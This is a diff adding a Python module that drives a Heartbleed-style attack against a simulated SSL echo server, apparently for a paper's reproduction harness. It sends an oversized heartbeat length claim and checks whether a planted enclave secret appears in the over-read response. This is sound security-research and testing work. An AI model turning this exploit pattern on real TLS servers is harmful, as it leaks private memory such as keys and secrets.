@@ -1,0 +1,69 @@
+"""Heartbleed attack driver (case study §VI-A).
+
+Runs the full exploit against an echo deployment: honest handshake,
+then a heartbeat request whose claimed payload length vastly exceeds the
+bytes actually sent.  Returns what leaked so tests and the Table VII
+harness can check whether the application secret was among it.
+
+The attacker here is a *network* client — it holds the session PSK (the
+paper's echo scenario assumes distributed keys) but has no access to the
+machine; everything it learns arrives in the heartbeat response.
+"""
+
+from __future__ import annotations
+
+import hashlib
+from dataclasses import dataclass
+
+from repro.apps.minissl import records
+from repro.apps.minissl.client import SslClient
+
+
+@dataclass
+class HeartbleedOutcome:
+    """What one exploit attempt yielded."""
+
+    leaked: bytes            # over-read bytes returned by the server
+    secret: bytes            # the app secret planted before the attack
+    response_empty: bool     # patched servers return nothing
+
+    @property
+    def secret_leaked(self) -> bool:
+        return bool(self.secret) and self.secret in self.leaked
+
+
+def run_heartbleed(server, *, secret: bytes = b"",
+                   free_secret_first: bool = False,
+                   probe: bytes = b"HB",
+                   claimed_length: int = 4096) -> HeartbleedOutcome:
+    """Execute the exploit against a deployment from
+    :mod:`repro.apps.ports.echo`.
+
+    ``secret`` is planted in the *application's* enclave (the shared
+    enclave for the monolithic layout; the inner enclave for nested)
+    before the attack, optionally freed first (``free_secret_first``) to
+    model the 'freed buffers' wording of the CVE.
+    """
+    psk = hashlib.sha256(b"echo-demo-psk").digest()
+    client = SslClient(psk=psk,
+                       nonce=hashlib.sha256(b"attacker-nonce").digest())
+
+    # Honest session establishment (the bug needs a live session).
+    server_response = server.accept(client.hello())
+    server.client_finished(client.finish(server_response))
+
+    if secret:
+        addr = server.store_secret(secret)
+        if free_secret_first:
+            server.release_secret(addr)
+
+    raw = client.heartbleed_request(probe, claimed_length)
+    response = server.handle_wire(raw)
+    if not response:
+        return HeartbleedOutcome(leaked=b"", secret=secret,
+                                 response_empty=True)
+    record = client.open_record(response)
+    assert record.content_type == records.CT_HEARTBEAT
+    leaked = client.extract_leak(record.payload, probe)
+    return HeartbleedOutcome(leaked=leaked, secret=secret,
+                             response_empty=False)
